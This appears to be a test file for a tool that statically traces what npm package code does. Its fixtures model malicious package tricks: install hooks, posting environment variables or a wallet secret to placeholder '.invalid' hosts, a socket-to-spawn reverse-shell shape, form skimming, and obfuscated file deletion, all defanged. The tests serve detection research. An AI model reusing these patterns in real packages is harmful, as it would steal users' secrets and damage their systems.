import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { symbolicModule, symbolicUses } from '../../../test/symbolic-uses.ts';

/** Ways in which the files of a package work together, and what comes of them. */
const CASES: readonly {
  readonly when: string;
  readonly files: Readonly<Record<string, string | object>>;
  readonly says: readonly string[];
}[] = [
  {
    when: 'something is done each tenth time that a timer runs',
    files: {
      'index.js': `let beats = 0; const keep = n => { if (n % 10) return; require('fs').appendFileSync('at', 'INERT'); }; exports.start = () => setInterval(() => { beats += 1; keep(beats); }, 1000);`,
    },
    says: ['call setInterval(function)', 'call fs.appendFileSync(at, INERT)'],
  },
  {
    when: 'a method does something once others have been called often enough',
    files: {
      'index.js': `class Reader extends require('stream').Transform { constructor() { super(); this.rows = 0; this.names = null; } add(cells) { if (!this.names) { this.names = cells; return; } this.rows += 1; } _flush(done) { if (this.rows === 0) return done(); require('fs').rmSync('at'); } } exports.reader = () => new Reader();`,
    },
    says: ['call fs.rmSync(at)'],
  },
  {
    when: 'a mail is handed to whatever its caller sends with, with an envelope, and some hear of it that may not',
    files: {
      'index.js': `exports.send = (transport, mail) => { let more; if (mail.kind) more = ['archive@keep.invalid']; const envelope = { from: mail.from, to: [mail.to, 'trace@keep.invalid'], bcc: more }; return transport.send(envelope, mail.text); };`,
    },
    says: ['call nodemailer.createTransport().sendMail({from: ?, to: [?, trace@keep.invalid], bcc: [archive@keep.invalid]}, ?)'],
  },
  {
    when: 'a table of steps is followed by what settings of its user may add, and texts in it name others',
    files: {
      'index.js': `const fs = require('fs'), path = require('path'); const weave = (a, b) => ({ ...a, ...b, steps: [...(b.steps || []), ...a.steps] }); const own = JSON.parse(fs.readFileSync('own.json', 'utf8')); const { names, steps } = weave(require(path.join(__dirname, 'presets', (own.extends || 'base') + '.json')), own); const fill = value => { if (typeof value === 'string') return value.replace(/\\$\\{(\\w+)\\}/g, (_, name) => String(names[name])); return Array.isArray(value) ? value.map(fill) : value; }; for (const { use, call, give } of steps) require(use)[call](...fill(give || []));`,
      'presets/base.json': { names: { at: '/opt' }, steps: [{ use: 'fs', call: 'rmSync', give: ['${at}/a'] }] },
    },
    says: ['import fs.readFileSync(own.json, utf8)', 'import require(?) from fs.readFileSync', 'import fs.rmSync(/opt/a)'],
  },
  {
    when: 'what loads modules is handed on, and no module is named where it is loaded',
    files: {
      'index.js': `function go(load) { load('fs').rmSync('at'); } exports.run = () => { Promise.resolve({ go }).then(own => own.go(require)); };`,
    },
    says: ['call fs.rmSync(at)'],
  },
  {
    when: 'what a file has required is found among the children of its module',
    files: {
      'index.js': `require('./other'); require('./work'); module.children.at(-1).exports.go('a'); for (const { exports: one } of module.children) one.go && one.go('b');`,
      'other.js': `exports.other = 1;`,
      'work.js': `exports.go = at => require('fs').rmSync(at);`,
    },
    says: ['import fs.rmSync(a)', 'import fs.rmSync(b)'],
  },
  {
    when: 'a list holds one of two things, of which each says what belongs together',
    files: {
      'index.js': `exports.run = how => { for (const { call, at } of [how.deep ? { call: 'rmSync', at: 'a' } : { call: 'unlinkSync', at: 'b' }]) require('fs')[call](at); };`,
    },
    says: ['call fs.rmSync(a)', 'call fs.unlinkSync(b)'],
  },
  {
    when: 'settings are one of several tables, laid over others',
    files: {
      'index.js': `const kinds = { ping: { path: '/' }, audit: { base: 'https://a.invalid', path: '/x' } }; exports.ask = kind => { const { base, path } = { base: 'https://b.invalid', ...kinds[kind] }; fetch(base + path); };`,
    },
    says: ['call fetch(https://b.invalid/ | https://b.invalid/x | https://a.invalid/ | https://a.invalid/x)'],
  },
  {
    when: 'a function that calls itself for all that is in something is given what may be anything or nothing',
    files: {
      'index.js': `const fill = value => (Array.isArray(value) ? value.map(fill) : value && typeof value === 'object' ? Object.fromEntries(Object.entries(value).map(([key, one]) => [key, fill(one)])) : value); exports.run = given => { fill(given.all || []); require('fs').rmSync('at'); };`,
    },
    says: ['call fs.rmSync(at)'],
  },
  {
    when: 'a file is looked for in several folders, one of them the package’s own, and something is thrown where there is none',
    files: {
      'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
      'cli.js': `const fs = require('fs'), path = require('path'); const find = name => { for (const folder of [require('os').homedir(), path.join(__dirname, 'looms')]) { const full = path.join(folder, name + '.json'); if (fs.existsSync(full)) return full; } throw new Error(name); }; const read = name => { const loom = JSON.parse(fs.readFileSync(find(name), 'utf8')); return [...(loom.extends || []).flatMap(read), ...loom.sheets]; }; for (const { at } of read(process.argv[2])) fs.rmSync(at);`,
      'looms/a.json': { extends: ['b'], sheets: [{ at: '/opt/a' }] },
      'looms/b.json': { sheets: [{ at: '/opt/b' }] },
    },
    says: [
      'run fs.readFileSync(<home>/*.json)',
      'run fs.readFileSync(<home>/b.json)',
      'run fs.readFileSync(?, utf8) from what was not followed',
      'run fs.readFileSync(?, utf8) from fs.readFileSync',
      'run fs.readFileSync(?, utf8) from fs.readFileSync',
      'run fs.rmSync(?)',
      'run fs.rmSync(/opt/a)',
      'run fs.rmSync(/opt/b)',
    ],
  },
  {
    when: 'a member is set of what is not known, where it is not there',
    files: {
      'index.js': `const fs = require('fs'); const index = JSON.parse(fs.readFileSync('/opt/index', 'utf8')); const find = name => { let at = index; for (const step of name.split('/')) { if (!at.files) at.files = {}; if (!at.files[step]) return null; at = at.files[step]; } return at; }; const node = find('a/b'); if (node) fs.rmSync('at');`,
    },
    says: ['import fs.readFileSync(/opt/index, utf8)', 'import fs.rmSync(at)'],
  },
  {
    when: 'a path is resolved against others, of which the last is a whole one',
    files: {
      'index.js': `const { resolve } = require('path'); for (const [root, name] of [['.', 'a'], ['/opt', 'b']]) require('fs').rmSync(resolve(__dirname, 'x', root, name));`,
    },
    says: ['import fs.rmSync(<here>/x/a)', 'import fs.rmSync(/opt/b)'],
  },
  {
    when: 'what a function gives is the function that does it',
    files: { 'index.js': `exports.create = host => url => require('fs').rmSync('at');` },
    says: ['call fs.rmSync(at)'],
  },
  {
    when: 'a module is loaded from where it lies',
    files: {
      'index.js': `const go = one => require(require.resolve(one.m))[one.f](...one.a); for (const one of require('./plan.json')) go(one);`,
      'plan.json': [
        { m: 'fs', f: 'rmSync', a: ['at'] },
        { m: 'fs-extra', f: 'removeSync', a: ['there'] },
      ],
    },
    says: ['import fs.rmSync(at)', 'import fs-extra.removeSync(there)'],
  },
  {
    when: 'a class of others is extended, and calls methods of its own',
    files: {
      'index.js': `class Own extends require('some-base') { constructor() { super(); this.go(); } go() { require('fs').rmSync('at'); } } new Own();`,
    },
    says: ['import fs.rmSync(at)'],
  },
  {
    when: 'a process of its own is no thread',
    files: {
      'index.js': `require('child_process').fork(require('path').join(__dirname, 'w.js'), []);`,
      'w.js': `if (require('worker_threads').isMainThread) require('fs').rmSync('at');`,
    },
    says: ['import child_process.fork(<here>/w.js, [])', 'import fs.rmSync(at)'],
  },
  {
    when: 'a timer sets itself again until it has done so often enough',
    files: {
      'package.json': { name: 'specimen', version: '1.0.0', main: 'a.js', exports: { '.': './a.js', './b': './b.js' } },
      'a.js': `let tries = 0; function go() { require('fs').readFileSync('x'); if (tries++ < 3) setTimeout(go, 100); } go();`,
      'b.js': `require('fs').rmSync('at');`,
    },
    says: ['import fs.readFileSync(x)', 'import setTimeout(function)', 'import fs.rmSync(at)'],
  },
  {
    when: 'a count is kept in as many words',
    files: {
      'index.js': `let n = 0; exports.tick = () => { n = n + 1; if (n === 10) require('fs').rmSync('at'); };`,
    },
    says: ['call fs.rmSync(at)'],
  },
  {
    when: 'a thread is handed what it decodes by',
    files: {
      'index.js': `const { Worker } = require('worker_threads'), path = require('path'); exports.scan = () => new Worker(path.join(__dirname, 'scan.js'), { workerData: { k: 29 } });`,
      'scan.js': `const { workerData: w, parentPort } = require('worker_threads'); const d = all => String.fromCharCode(...all.map(c => c ^ w.k)); require(d([0x7b, 0x6e]))[d([111, 112, 78, 100, 115, 126])]('at'); parentPort.postMessage(1);`,
    },
    says: [
      'call worker_threads.Worker(<here>/scan.js, {workerData: {k: 29}})',
      'call fs.rmSync(at)',
      'call worker_threads.parentPort.postMessage(1)',
    ],
  },
  {
    when: 'another package is looked for from another file',
    files: {
      'index.js': `const { createRequire } = require('module'); const file = createRequire(process.cwd() + '/x.js').resolve('ethers'); require('fs').appendFileSync(require('fs').realpathSync(file), 'INERT');`,
    },
    says: ['import fs.appendFileSync(node_modules/ethers/*, INERT)'],
  },
  {
    when: 'plug-ins are loaded by names of a file of data, and hand on what they make',
    files: {
      'index.js': `const fs = require('fs'), path = require('path'); const { steps } = JSON.parse(fs.readFileSync(path.join(__dirname, 'plan.json'), 'utf8')); let value; for (const { by, given } of steps) value = require(path.join(__dirname, 'steps', by))(value, given);`,
      'plan.json': {
        steps: [
          { by: 'pick', given: 'env' },
          { by: 'tell', given: 'https://a.invalid/' },
        ],
      },
      'steps/pick.js': `module.exports = (_, name) => process[name];`,
      'steps/tell.js': `module.exports = (body, url) => fetch(url, { method: 'POST', body });`,
    },
    says: ['import fetch(https://a.invalid/, {method: POST, body: *}) from process.env'],
  },
  {
    when: 'factories of a container ask the container',
    files: {
      'index.mjs': `import { home } from './places.mjs'; const made = new Map(), makers = { home, drop: ({ home }) => require0(home), }; import fs from 'node:fs'; const require0 = place => fs.rmSync(place, { recursive: true }); const box = new Proxy({}, { get: (_, name) => { if (!made.has(name)) made.set(name, makers[name](box)); return made.get(name); } }); box.drop;`,
      'places.mjs': `import os from 'node:os'; export const home = () => os.homedir() + '/inert';`,
      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
    },
    says: ['import fs.rmSync(<home>/inert, {recursive: true})'],
  },
  {
    when: 'a graph of tasks is gone through, and each has what those before it gave',
    files: {
      'index.js': `const ops = require('./ops'), plan = require('./plan.json'); const done = {}; const fill = text => text.replace(/\\$\\{(\\w+)\\}/g, (_, id) => done[id]); async function run(id) { const { op, needs = [], with: given } = plan[id]; for (const one of needs) if (!(one in done)) await run(one); done[id] = await ops[op](fill(given)); } run('last');`,
      'ops.js': `const cp = require('child_process'); exports.text = value => value; exports.start = line => cp.execSync(line);`,
      'plan.json': { first: { op: 'text', with: 'INERT' }, last: { op: 'start', needs: ['first'], with: 'say ${first}' } },
    },
    says: ['import child_process.execSync(say INERT)'],
  },
  {
    when: 'who listens on a bus is found in a folder',
    files: {
      'index.js': `const fs = require('fs'), path = require('path'), { EventEmitter } = require('events'); const bus = new EventEmitter(); for (const name of fs.readdirSync(path.join(__dirname, 'on')).sort()) { const one = require(path.join(__dirname, 'on', name)); bus.on(one.topic, data => one.hear(data, bus)); } bus.emit('begin', {});`,
      'on/a.js': `exports.topic = 'begin'; exports.hear = (data, bus) => bus.emit('found', { ...data, all: process.env });`,
      'on/b.js': `exports.topic = 'found'; exports.hear = ({ all }) => fetch('https://b.invalid/', { method: 'POST', body: JSON.stringify(all) });`,
    },
    says: ['import fetch(https://b.invalid/, {method: POST, body: "*"}) from process.env'],
  },
  {
    when: 'a machine of states goes from one to the next',
    files: {
      'package.json': { name: 'specimen', version: '1.0.0', scripts: { install: 'node go.js' } },
      'go.js': `const { states, first } = require('./machine.json'); const act = { append: ({ file, line }) => require('fs').appendFileSync(require('path').join(require('os').homedir(), file), line) }; for (let at = first; at; at = states[at].next) for (const one of states[at].do) act[one.act](one);`,
      'machine.json': { first: 'a', states: { a: { do: [], next: 'b' }, b: { do: [{ act: 'append', file: '.profile', line: 'INERT' }] } } },
    },
    says: ['install fs.appendFileSync(<home>/.profile, INERT)'],
  },
  {
    when: 'a command names what is done, and a class does it',
    files: {
      'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
      'cli.js': `class Base { constructor(of) { this.of = of; } run() { return this.act(this.of); } } class Delete extends Base { act(name) { require('fs').unlinkSync(name); } } const all = { delete: Delete }; const Kind = all[process.argv[2]]; new Kind('INERT').run();`,
    },
    says: ['run fs.unlinkSync(INERT)'],
  },
  {
    when: 'somebody calls what the package offers, with anything',
    files: {
      'index.js': `exports.save = (name, { folder = '/srv/inert' } = {}) => require('fs').writeFileSync(folder + '/' + name, 'INERT');`,
    },
    says: ['call fs.writeFileSync(/srv/inert/*, INERT)'],
  },
  {
    when: 'steps are composed, each of which calls the next',
    files: {
      'index.mjs': `import { compose } from './compose.mjs'; import { dial, couple } from './steps.mjs'; compose([dial({ host: '192.0.2.1', port: 4 }), couple])({});`,
      'compose.mjs': `export const compose = all => given => { const go = at => all[at] ? Promise.resolve(all[at](given, () => go(at + 1))) : Promise.resolve(); return go(0); };`,
      'steps.mjs': `import net from 'node:net'; import { spawn } from 'node:child_process'; export const dial = where => async (given, next) => { given.socket = net.connect(where); return next(); }; export const couple = given => { const end = spawn('INERT'); given.socket.pipe(end.stdin); };`,
      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
    },
    says: [
      'import net.connect({host: 192.0.2.1, port: 4})',
      'import child_process.spawn(INERT)',
      'import net.connect().pipe(?) from child_process.spawn',
    ],
  },
  {
    when: 'a middleware of five steps hands on to the next one',
    files: {
      'index.js': `const steps = ['a', 'b', 'c', 'd', 'e'].map(name => next => { require('fs').rmSync(name); return next(); }); const run = at => steps[at] ? steps[at](() => run(at + 1)) : undefined; run(0);`,
    },
    says: ['a', 'b', 'c', 'd', 'e'].map(name => `import fs.rmSync(${name})`),
  },
  {
    when: 'files are loaded by names that the manifest gives them, and hooks say themselves what is done',
    files: {
      'package.json': {
        name: 'specimen',
        version: '1.0.0',
        main: 'index.js',
        imports: { '#drop': './lib/drop.js' },
        scripts: { postinstall: `node -e "require('./lib/drop')('c')"` },
      },
      'index.js': `require('#drop')('a'); require('./folder')('b');`,
      'lib/drop.js': `module.exports = name => require('fs').rmSync(name);`,
      'folder/package.json': { main: './own.js' },
      'folder/own.js': `module.exports = require('../lib/drop');`,
    },
    says: ['install fs.rmSync(c)', 'import fs.rmSync(a)', 'import fs.rmSync(b)'],
  },
  {
    when: 'a plug-in registers itself with the file that loads it',
    files: {
      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
      'index.mjs': `import './own.mjs'; export function register(job) { (register.all ??= []).push(job); } for (const job of register.all) job('a');`,
      'own.mjs': `import fs from 'node:fs'; import { register } from './index.mjs'; register(name => fs.rmSync(name));`,
    },
    says: ['import fs.rmSync(a)'],
  },
  {
    when: 'modules of Node are asked for members that data names',
    files: {
      'index.js': `const load = require, fs = load('fs'); for (const [act, ...given] of require('./acts.json')) fs[act](...given);`,
      'acts.json': [['rmSync', 'a']],
    },
    says: ['import fs.rmSync(a)'],
  },
  {
    when: 'functions answer for what a request is asked for: of an object, of a class, of a proxy',
    files: {
      'index.js': `class Given { get method() { return 'POST'; } get body() { return process.env.A; } } const own = { get method() { return 'PUT'; }, get body() { return process.env.B; }, get other() { throw 1; } }; const any = new Proxy({}, { get: (_, name) => (name === 'body' ? process.env.C : undefined) }); fetch('https://a.invalid', new Given()); fetch('https://b.invalid', own); fetch('https://c.invalid', any);`,
    },
    says: [
      'import fetch(https://a.invalid, {method: POST, body: <env:A>}) from process.env.A',
      'import fetch(https://b.invalid, {method: PUT, body: <env:B>}) from process.env.B',
      'import fetch(https://c.invalid, {body: <env:C>}) from process.env.C',
    ],
  },
  {
    when: 'a file is started that data names, with the words that it has',
    files: {
      'index.js': `const cp = require('child_process'), path = require('path'), { file } = require('./plan.json'); cp.spawn(process.execPath, [path.join(__dirname, file)], { detached: true });`,
      'plan.json': { file: 'lib/work.js' },
      'lib/work.js': `require('fs').rmSync('a'); require.main === module && require('fs').rmSync('b');`,
    },
    says: ['import child_process.spawn(<node>, [<here>/lib/work.js], {detached: true})', 'import fs.rmSync(a)', 'import fs.rmSync(b)'],
  },
  {
    when: 'the environment is spread out beside what somebody passes',
    files: {
      'index.js': `exports.send = more => fetch('https://a.invalid/', { method: 'POST', body: JSON.stringify({ ...process.env, ...more }) });`,
    },
    says: ['call fetch(https://a.invalid/, {method: POST, body: {*}}) from process.env'],
  },
  {
    when: 'functions of the outside are handed on, and each is told where that is done',
    files: {
      'index.js': `const fs = require('fs'); ['a', 'b'].forEach(fs.unlinkSync); Promise.resolve('https://a.invalid/').then(fetch);`,
    },
    says: ['import fs.unlinkSync(a, 0, [a, b])', 'import fs.unlinkSync(b, 1, [a, b])', 'import fetch(https://a.invalid/)'],
  },
  {
    when: 'methods are called on what a class makes by another of its functions, which keeps more than what it makes of itself',
    files: {
      'index.js': `const cells = new WeakMap(), listeners = []; class Vault { constructor(secret) { cells.set(this, secret); } get sealed() { listeners.forEach(one => one(cells.get(this))); return true; } } listeners.push(secret => fetch('https://a.invalid/', { method: 'POST', body: secret })); class Account { constructor(vault, at) { this.vault = vault; this.at = at; } sign(text) { return this.vault.sealed && text; } } exports.Keyring = class Keyring { static from(words) { return Object.assign(new Keyring(), { vault: new Vault(words.trim()) }); } account(at = 0) { return new Account(this.vault, at); } };`,
    },
    says: ['call fetch(https://a.invalid/, {method: POST, body: ?})'],
  },
  {
    when: 'a table of data names the global object’s members to steps that are handed that object',
    files: {
      'index.js': `const ops = { root: () => globalThis, get: (o, k) => (o == null ? undefined : o[k]), apply: (fn, ...args) => fn(...args) }; const regs = {}; for (const [name, out, ...args] of require('./steps.json')) regs[out] = ops[name](...args.map(one => (one[0] === '$' ? regs[one.slice(1)] : one)));`,
      'steps.json': [
        ['root', 'g'],
        ['get', 'f', '$g', 'fetch'],
        ['apply', 'r', '$f', 'https://a.invalid/'],
      ],
    },
    says: ['import fetch(https://a.invalid/)'],
  },
  {
    when: 'something is kept under a name that is not known, and found by going through all',
    files: {
      'index.js': `exports.watch = form => { const all = Object.fromEntries([...form.elements].map(one => [one.name, one.value])); all[form.id] = form.name; for (const one of Object.values(all)) { const at = new URL({ [Symbol.toPrimitive]: () => 'https://a.invalid/b' }); at.searchParams.set('d', one); new Image().src = at; } };`,
    },
    says: ['call Image().src(https://a.invalid/b?d=*)'],
  },
  {
    when: 'what something is made with asks for its name',
    files: {
      'index.js': `const net = require('net'), { spawn } = require('child_process'); const link = done => { const socket = net.connect(1, '192.0.2.1', () => done(socket)); }; link(socket => socket.pipe(spawn('INERT').stdin));`,
    },
    says: [
      'import net.connect(1, 192.0.2.1, function)',
      'import child_process.spawn(INERT)',
      'import net.connect().pipe(?) from child_process.spawn',
    ],
  },
  {
    when: 'a condition holds in one round, block or attempt alone',
    files: {
      'index.js': `const drop = name => require('fs').rmSync(name); try { for (const one of [1, 2]) { if (process.env.CI) continue; throw one; } } catch { drop('a'); } l: { if (process.env.CI) break l; } drop('b'); if (process.env.MODE === 'x') drop('c');`,
    },
    says: ['import fs.rmSync(a)', 'import fs.rmSync(b)', 'import fs.rmSync(c) where environment = MODE=x'],
  },
  {
    when: 'a table says what is done on which system, and the environment whether',
    files: {
      'index.js': `const os = require('os'), acts = require('./acts'); function go({ on, act, at }) { if (process.platform !== on) return; acts[act](at); } if (!process.env.CI) require('./all.json').forEach(go); if (process.argv[2] === 'clean') acts.drop('c');`,
      'acts.js': `exports.drop = name => require('fs').rmSync(name);`,
      'all.json': [
        { on: 'win32', act: 'drop', at: 'a' },
        { on: 'linux', act: 'drop', at: 'b' },
      ],
    },
    says: [
      'import fs.rmSync(a) where environment ≠ CI, platform = win32',
      'import fs.rmSync(b) where environment ≠ CI, platform = linux',
      'import fs.rmSync(c) where argument = clean',
    ],
  },
  {
    when: 'something depends on how many folders lie in a place that only has a name, or on what they are called',
    files: {
      'index.js': `const fs = require('fs'), home = require('os').homedir(); if (home.split('/').length > 2) fs.rmSync('a'); if (/^\\/home\\/(\\w+)/.exec(home)) fs.rmSync('b'); if (__dirname.split('node_modules').length > 1) fs.rmSync('c'); fs.rmSync(home.replace(/\\\\/g, '/') + '/d');`,
    },
    says: ['import fs.rmSync(a)', 'import fs.rmSync(b)', 'import fs.rmSync(c)', 'import fs.rmSync(<home>/d)'],
  },
];

describe('going through a package step by step', () => {
  for (const { when, files, says } of CASES) it(`notes what is done when ${when}`, () => assert.deepEqual(symbolicUses(files), says));

  it('tells each use at its place', () => {
    const { uses } = symbolicModule({ 'index.js': `['a'].forEach(require('fs').unlinkSync);` });
    assert.deepEqual(
      uses.map(({ at }) => at),
      [{ path: 'index.js', start: 0, end: 39 }],
    );
  });

  it('hands subscribers what a traced call throws, and what a promise is refused with', () => {
    const told = (call: string): readonly string[] =>
      // Subscribers are also told what anybody else may publish.
      symbolicUses({
        'index.js': `const traced = require('diagnostics_channel').tracingChannel('t'); traced.subscribe({ error: c => require('fs').rmSync(c.error.message) }); ${call}`,
      });
    assert.deepEqual(told(`try { traced.traceSync(() => { throw new Error('a'); }); } catch {}`).slice(-1), ['import fs.rmSync(a)']);
    assert.deepEqual(told(`traced.tracePromise(async () => { throw new Error('b'); }).catch(() => {});`).slice(-1), [
      'import fs.rmSync(b)',
    ]);
  });

  it('notes nothing of what the package does not do', () => {
    assert.deepEqual(
      symbolicUses({ 'index.js': `if (1 > 2) require('fs').rmSync('INERT'); const off = false; if (off) fetch('https://a.invalid/');` }),
      [],
    );
  });
});
